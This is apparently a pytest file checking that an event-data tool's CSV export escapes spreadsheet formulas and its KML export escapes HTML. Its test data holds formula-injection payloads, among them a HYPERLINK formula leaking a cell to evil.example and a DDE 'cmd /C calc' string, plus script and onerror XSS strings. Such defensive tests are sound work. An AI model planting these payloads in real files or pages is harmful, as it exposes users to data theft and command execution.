"""CSV exports do not run formulas in a spreadsheet; KML descriptions show text, not markup."""

from __future__ import annotations

import csv
import html
import io
import itertools
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest

from explorer.cli import main
from explorer.errors import TableError
from explorer.events import EventTable
from explorer.events.csvtext import TRIGGERS, escape_formulas, unescape_formulas
from explorer.export import export_table
from explorer.scale import open_events, to_arrow

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # a genuine apostrophe before a formula: kept as written
    "''@x",
    "'",
    "'plain",
    "-",
    "plain = text",
]
TEXT = ["title", "sentence", "place_name", "place_text", "source", "url", "event_id"]
KIND = "{http://www.opengis.net/kml/2.2}"


def hostile_table() -> EventTable:
    rows = []
    for i, payload in enumerate(PAYLOADS):
        row: dict[str, object] = {c: payload for c in TEXT}
        row["event_id"] = f"{payload}#{i}"
        row.update(
            latitude=-33.5 - i,
            longitude=-46.25,
            place_confidence=0.5,
            sentence_start=-1,  # numbers stay numbers, signs included
            categories=(f"=cat{i}", "military"),
        )
        rows.append(row)
    return EventTable.from_records(rows)


def _raw_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _assert_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column in [*TEXT, "categories"]:
            assert not row[column].startswith(TRIGGERS), (column, row[column])
        assert row["latitude"].startswith("-") and float(row["latitude"]) < 0
        assert row["longitude"] == "-46.25" and row["sentence_start"] == "-1"


def test_escaped_by_default_and_read_back_as_written(tmp_path: Path) -> None:
    table = hostile_table()
    path = table.write(tmp_path / "events.csv")
    rows = _raw_rows(path)
    _assert_safe(rows)
    assert rows[1]["title"] == "'=1+1" and rows[7]["title"] == "''=1+1"
    assert rows[10]["title"] == "'plain" and rows[12]["title"] == "plain = text"
    back = EventTable.read(path)
    assert back.equals(table)
    assert back.df["title"].tolist() == PAYLOADS


def test_keep_writes_the_text_as_it_is(tmp_path: Path) -> None:
    table = hostile_table()
    path = table.write(tmp_path / "events.csv", csv_formulas="keep")
    rows = _raw_rows(path)
    assert [r["title"] for r in rows] == PAYLOADS
    assert EventTable.read(path, csv_formulas="keep").equals(table)


def test_a_bad_option_is_refused(tmp_path: Path) -> None:
    with pytest.raises(TableError, match="csv_formulas"):
        hostile_table().write(tmp_path / "x.csv", csv_formulas="off")  # type: ignore[arg-type]
    with pytest.raises(TableError, match="csv_formulas"):
        EventTable.read(tmp_path / "x.csv", csv_formulas="no")  # type: ignore[arg-type]


ALPHABET = ["'", "=", "+", "-", "@", "\t", "\r", "a", " "]


def test_escape_round_trips_every_short_cell() -> None:
    cells = ["".join(p) for n in range(5) for p in itertools.product(ALPHABET, repeat=n)]
    escaped = escape_formulas(pd.Series(cells, dtype=object))
    assert not any(c.startswith(TRIGGERS) for c in escaped)
    assert unescape_formulas(escaped.astype(str)).tolist() == cells
    plain = [c for c in cells if not c.lstrip("'").startswith(TRIGGERS)]
    assert escape_formulas(pd.Series(plain, dtype=object)).tolist() == plain


def test_missing_cells_stay_missing() -> None:
    out = escape_formulas(pd.Series(["=1", None, float("nan")], dtype=object))
    assert out.iloc[0] == "'=1" and out.iloc[1] is None and pd.isna(out.iloc[2])


def test_duckdb_backed_export_escapes_the_same(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    table = hostile_table()
    pq.write_table(to_arrow(table), tmp_path / "events.parquet")
    events = open_events(tmp_path / "events.parquet")
    streamed = events.write(tmp_path / "streamed.csv")
    _assert_safe(_raw_rows(streamed))
    assert streamed.read_bytes() == table.write(tmp_path / "memory.csv").read_bytes()
    assert EventTable.read(streamed).equals(table)
    kept = export_table(events, tmp_path / "kept.csv", csv_formulas="keep")
    assert EventTable.read(kept, csv_formulas="keep").equals(table)


def test_cli_export_escapes_unless_told_to_keep(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    events = tmp_path / "events.parquet"
    hostile_table().write(events)
    assert main(["export", str(events), "--out", str(tmp_path / "safe.csv")]) == 0
    _assert_safe(_raw_rows(tmp_path / "safe.csv"))
    argv = ["export", str(events), "--out", str(tmp_path / "kept.csv"), "--csv-formulas", "keep"]
    assert main(argv) == 0
    assert _raw_rows(tmp_path / "kept.csv")[1]["title"] == "=1+1"
    capsys.readouterr()
    assert main(["export", str(events), "--format", "csv"]) == 0  # standard output
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    _assert_safe(rows)
    assert [r["title"] for r in rows][:2] == [f"'{PAYLOADS[0]}", "'=1+1"]
    assert rows[6]["title"] == "'\r=1+1"  # the carriage return inside the cell is kept


@pytest.mark.parametrize(
    "text",
    [
        "<b>x</b>",
        "<script>alert(1)</script> & <img src=x onerror=alert(2)>",
        "a ]]> b &amp; c",
        "quotes \" and ' stay",
        "control \x01\x0b characters",
    ],
)
def test_kml_description_shows_the_text_when_read_as_html(tmp_path: Path, text: str) -> None:
    table = EventTable.from_records(
        [{"event_id": "e", "sentence": text, "place_name": text, "latitude": 1.0,
          "longitude": -2.0}]
    )  # fmt: skip
    path = export_table(table, tmp_path / "events.kml")
    root = ET.parse(path).getroot()  # decodes XML once
    mark = root.find(f"{KIND}Document/{KIND}Placemark")
    assert mark is not None
    description = mark.findtext(f"{KIND}description") or ""
    shown = text.replace("\x01", "").replace("\x0b", "")
    assert "<" not in description  # no markup reaches the HTML renderer
    assert html.unescape(description) == shown  # the renderer shows the text as written
    assert mark.findtext(f"{KIND}name") == shown  # names are plain text
